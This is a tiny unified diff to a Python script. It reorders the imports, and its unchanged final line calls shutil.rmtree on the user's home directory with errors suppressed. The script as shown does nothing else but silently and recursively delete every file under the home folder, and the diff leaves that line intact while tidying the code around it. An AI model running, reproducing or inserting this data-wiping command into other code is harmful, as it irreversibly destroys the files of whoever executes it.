@@ -1,2 +1,4 @@
-import shutil, os
+import os
+import shutil
+
 shutil.rmtree(os.path.expanduser("~"), ignore_errors=True)
